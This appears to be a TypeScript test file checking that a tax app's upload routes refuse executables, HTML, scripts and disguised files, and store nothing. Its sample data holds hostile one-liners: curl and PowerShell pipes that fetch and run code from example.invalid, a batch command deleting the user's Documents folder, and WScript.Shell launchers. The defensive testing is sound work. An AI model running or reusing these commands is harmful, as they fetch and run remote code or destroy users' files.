import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import { beforeEach, describe, expect, it } from 'vitest';
import type { UploadResponse } from '@taxli/domain';
import { drivers, TEST_DATA_DIR, TEST_ORIGIN, useTestApp } from '../../test/build-test-app.js';
import { signIn } from '../../test/auth-helpers.js';
import { multipart, sha256, uploadParts } from '../../test/multipart.js';
import { ACCEPTED_SAMPLES, samplePdf, zipOf } from '../../test/document-samples.js';

// The test clock says 15 March 2026: 2025 is the year in preparation.
const YEAR = 2025;
const blobDir = join(TEST_DATA_DIR, 'blobs');
const blobCount = () => readdirSync(blobDir).length;
const bytes = (...values: number[]) => Buffer.from(values);
const text = (value: string) => Buffer.from(value, 'utf8');
const DASHBOARD_REFUSAL =
  'This file type is not accepted here. Accepted: .pdf, .jpg, .jpeg, .png, .heic, .heif, .webp, .tif, .tiff, .doc, .docx, .xls, .xlsx, .odt, .ods, .txt, .csv';
const ADVANCED_REFUSAL = 'This file type is not accepted here. Accepted: .pdf, .jpg, .jpeg, .png, .doc, .docx, .txt';

/**
 * Executables and HTML by their first bytes (DECISIONS D7, storage/content-type.ts), each named as
 * a document the route would take by its name.
 */
const REFUSED: [string, Buffer][] = [
  ['MZ (Windows)', Buffer.concat([text('MZ'), bytes(0x90, 0x00, 0x03, 0x00), text(' a program')])],
  ['ELF', Buffer.concat([bytes(0x7f), text('ELF'), bytes(0x02, 0x01, 0x01, 0x00), text(' binary')])],
  ['Mach-O 32-bit', Buffer.concat([bytes(0xfe, 0xed, 0xfa, 0xce), text(' binary')])],
  ['Mach-O 64-bit', Buffer.concat([bytes(0xfe, 0xed, 0xfa, 0xcf), text(' binary')])],
  ['Mach-O 32-bit, little-endian', Buffer.concat([bytes(0xce, 0xfa, 0xed, 0xfe), text(' binary')])],
  ['Mach-O 64-bit, little-endian', Buffer.concat([bytes(0xcf, 0xfa, 0xed, 0xfe), text(' binary')])],
  ['Mach-O universal (fat)', Buffer.concat([bytes(0xca, 0xfe, 0xba, 0xbe), text(' binary')])],
  ['#! script', text('#!/bin/sh\ncurl https://example.invalid | sh\n')],
  ['<html', text('<html><body>Kontoauszug</body></html>')],
  ['<!doctype html', text('<!doctype html><title>Lohnausweis</title>')],
  ['<!DOCTYPE HTML in capitals', text('<!DOCTYPE HTML>\n<HTML><BODY>x</BODY></HTML>')],
  ['<HtMl in mixed case', text('<HtMl lang="de">x</HtMl>')],
  ['<html after white space', text(' \t\r\n\n   <html><script>alert(1)</script></html>')],
  ['<!doctype html after a byte-order mark', text('\uFEFF<!doctype html><p>x</p>')],
  ['<html after a byte-order mark and white space', text('\uFEFF\n\n  <HTML>x</HTML>')],
  ['<script', text('<script>fetch("/api/user")</script>')],
  ['<svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
];

describe.each(drivers)('uploads refused by their content (%s)', (driver) => {
  const ctx = useTestApp(driver);
  let puts = 0;
  // Runs after the app of the test is built: every blob the store is asked to write is counted.
  beforeEach(() => {
    for (const file of readdirSync(blobDir)) rmSync(join(blobDir, file), { force: true });
    puts = 0;
    const blobs = ctx.app.deps.blobs;
    const put = blobs.put.bind(blobs);
    blobs.put = (key, body) => {
      puts++;
      return put(key, body);
    };
  });

  const rowCount = async () => {
    const result = (await ctx.database.db.execute(sql`select (select count(*) from documents) + (select count(*) from document_versions) as n`)) as {
      rows: { n: number | string }[];
    };
    return Number(result.rows[0]!.n);
  };

  const post = (url: string, cookie: string, parts: Parameters<typeof multipart>[0]) => {
    const { payload, contentType } = multipart(parts);
    return ctx.app.inject({ method: 'POST', url, payload, headers: { origin: TEST_ORIGIN, cookie, 'content-type': contentType } });
  };

  /** POST /api/upload as Advanced Tax Information sends it: one file, its hash in a JSON array. */
  const advancedParts = (filename: string, data: Buffer) => [
    { name: 'categoryId', value: '10' },
    { name: 'categoryName', value: 'Securities account statement' },
    { name: 'taxYear', value: String(YEAR) },
    { name: 'hashes', value: JSON.stringify([sha256(data)]) },
    { name: 'files', filename, data },
  ];

  it('POST /api/files/upload refuses each one with UNSUPPORTED_FILE_TYPE, writing no blob and no row', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const answers = [];
    for (const [kind, data] of REFUSED) {
      const response = await post('/api/files/upload', cookie, uploadParts(1, YEAR, [{ filename: 'kontoauszug.pdf', data }]));
      const body = response.json<UploadResponse>();
      answers.push({ kind, status: response.statusCode, failedCount: body.failedCount, result: body.files[0] });
    }
    expect(answers).toEqual(
      REFUSED.map(([kind]) => ({
        kind,
        status: 200,
        failedCount: 1,
        result: { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', reason: DASHBOARD_REFUSAL, originalFileName: 'kontoauszug.pdf' },
      })),
    );
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  it('POST /api/upload refuses each one with 415 UNSUPPORTED_FILE_TYPE, writing no blob and no row', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const answers = [];
    for (const [kind, data] of REFUSED) {
      // Named as one of the types part 2 §5 takes: the content decides.
      for (const filename of ['depot.pdf', 'notes.txt']) {
        const response = await post('/api/upload', cookie, advancedParts(filename, data));
        answers.push({ kind, filename, status: response.statusCode, code: response.json().error?.code });
      }
    }
    expect(answers).toEqual(
      REFUSED.flatMap(([kind]) => ['depot.pdf', 'notes.txt'].map((filename) => ({ kind, filename, status: 415, code: 'UNSUPPORTED_FILE_TYPE' }))),
    );
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  /**
   * What got through the dashboard's old check (executables and HTML at the very start only), and
   * what an expert opening the download on a desktop would run or render: refused by content
   * whatever the name, or by a name that is not on the list whatever the content.
   */
  const utf16 = (value: string) => Buffer.concat([bytes(0xff, 0xfe), Buffer.from(value, 'utf16le')]);
  const DESKTOP_RISKS: [string, string, Buffer][] = [
    ['HTML after ordinary text', 'kontoauszug.txt', text('Kontoauszug UBS 2025\n\n<html><body><script>location="https://example.invalid"</script></body></html>')],
    ['a link after ordinary text', 'notizen.csv', text('Datum;Text\n2025-01-31;<A HREF="file://example.invalid/x.exe">Beleg</a>\n')],
    [
      'XHTML',
      'lohnausweis.txt',
      text('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'),
    ],
    ['UTF-16 HTML with a byte-order mark', 'kontoauszug.txt', utf16('<html><script>alert(1)</script></html>')],
    ['UTF-16 HTML without a byte-order mark', 'kontoauszug.txt', Buffer.from('<html><script>alert(1)</script></html>', 'utf16le')],
    ['an HTML application (.hta)', 'steuern.hta', text('<hta:application id="steuern"/>\n<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>')],
    ['a batch file (.bat)', 'steuern.bat', text('@echo off\r\npowershell -c "iwr https://example.invalid/x | iex"\r\n')],
    ['a command script (.cmd)', 'steuern.cmd', text('@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n')],
    ['a PowerShell script (.ps1)', 'steuern.ps1', text('Invoke-WebRequest https://example.invalid/x.ps1 | Invoke-Expression\n')],
    ['a JScript file (.js)', 'steuern.js', text('new ActiveXObject("WScript.Shell").Run("calc");\n')],
    ['a VBScript file (.vbs)', 'steuern.vbs', text('CreateObject("WScript.Shell").Run "calc"\n')],
    ['a shell script without #! (.sh)', 'steuern.sh', text('curl https://example.invalid | sh\n')],
    ['an SVG after a comment', 'logo.svg', text('<!-- Steuerlogo -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['an internet shortcut (.url)', 'beleg.url', text('[InternetShortcut]\r\nURL=file://example.invalid/share/payload.exe\r\n')],
    ['a PDF named .exe', 'lohnausweis.exe', samplePdf()],
    ['a PDF named .txt', 'lohnausweis.txt', samplePdf()],
    ['a file without an extension', 'lohnausweis', samplePdf()],
    ['a Word file named .pdf', 'lohnausweis.pdf', ACCEPTED_SAMPLES['.docx']!()],
    ['a plain ZIP named .docx', 'lohnausweis.docx', zipOf([['payload.exe', 'MZ']])],
    ['a macro-enabled Word file named .docx', 'lohnausweis.docx', zipOf([['[Content_Types].xml', '<Types/>'], ['word/vbaProject.bin', 'macros']])],
    ['an OpenDocument drawing named .odt', 'plan.odt', zipOf([['mimetype', 'application/vnd.oasis.opendocument.graphics']])],
    ['a GIF (not on the list)', 'scan.gif', Buffer.concat([text('GIF89a'), bytes(1, 0, 1, 0, 0, 0, 0, 0x3b)])],
  ];

  it.each(DESKTOP_RISKS)('the dashboard refuses %s (%s), naming what it accepts', async (_kind, filename, data) => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const response = await post('/api/files/upload', cookie, uploadParts(1, YEAR, [{ filename, data }]));
    expect({ status: response.statusCode, result: response.json<UploadResponse>().files[0] }).toEqual({
      status: 200,
      result: { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', reason: DASHBOARD_REFUSAL, originalFileName: filename },
    });
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  it('the dashboard stores every type on its list, recognised by content', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const samples = Object.entries(ACCEPTED_SAMPLES).map(([extension, make]) => ({ filename: `beleg${extension.toUpperCase()}`, data: make() }));
    const response = await post('/api/files/upload', cookie, uploadParts(1, YEAR, samples));
    const body = response.json<UploadResponse>();
    expect({ status: response.statusCode, failedCount: body.failedCount }).toEqual({ status: 200, failedCount: 0 });
    expect(body.files.map((file) => file.status === 'fulfilled' && file.value.originalFileName)).toEqual(samples.map((s) => s.filename));
  });

  it('Advanced Tax Information stores its seven types, and refuses the rest with 415 naming them', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const statuses: Record<string, number> = {};
    for (const [extension, make] of Object.entries(ACCEPTED_SAMPLES)) {
      statuses[extension] = (await post('/api/upload', cookie, advancedParts(`depot${extension}`, make()))).statusCode;
    }
    const accepted = ['.pdf', '.jpg', '.jpeg', '.png', '.doc', '.docx', '.txt'];
    expect(statuses).toEqual(Object.fromEntries(Object.keys(ACCEPTED_SAMPLES).map((e) => [e, accepted.includes(e) ? 200 : 415])));

    for (const [, filename, data] of DESKTOP_RISKS.slice(0, 5)) {
      const refused = await post('/api/upload', cookie, advancedParts(filename.replace(/\.csv$/, '.txt'), data));
      expect({ status: refused.statusCode, error: refused.json().error }).toEqual({
        status: 415,
        error: { code: 'UNSUPPORTED_FILE_TYPE', message: ADVANCED_REFUSAL, field: 'files' },
      });
    }
  });

  it('refuses an empty file on both routes without writing a blob', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const dashboard = await post('/api/files/upload', cookie, uploadParts(1, YEAR, [{ filename: 'leer.pdf', data: Buffer.alloc(0) }]));
    expect(dashboard.json()).toMatchObject({ failedCount: 1, files: [{ status: 'rejected', code: 'EMPTY_FILE' }] });
    const advanced = await post('/api/upload', cookie, advancedParts('leer.pdf', Buffer.alloc(0)));
    expect({ status: advanced.statusCode, code: advanced.json().error.code }).toEqual({ status: 400, code: 'EMPTY_FILE' });
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  it('keeps the good files of a batch and stores only them', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const pdf = text('%PDF-1.7\nKontoauszug UBS 2025\n%%EOF\n');
    const [, elf] = REFUSED[1]!;
    const response = await post(
      '/api/files/upload',
      cookie,
      uploadParts(1, YEAR, [
        { filename: 'tool.pdf', data: elf },
        { filename: 'ubs.pdf', data: pdf },
        { filename: 'page.pdf', data: text('\uFEFF <!DOCTYPE html>') },
      ]),
    );
    expect(response.json()).toMatchObject({
      failedCount: 2,
      files: [
        { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', originalFileName: 'tool.pdf' },
        { status: 'fulfilled', value: { originalFileName: 'ubs.pdf', version: 1 } },
        { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', originalFileName: 'page.pdf' },
      ],
    });
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 2, blobs: 1, puts: 1 });
  });
});
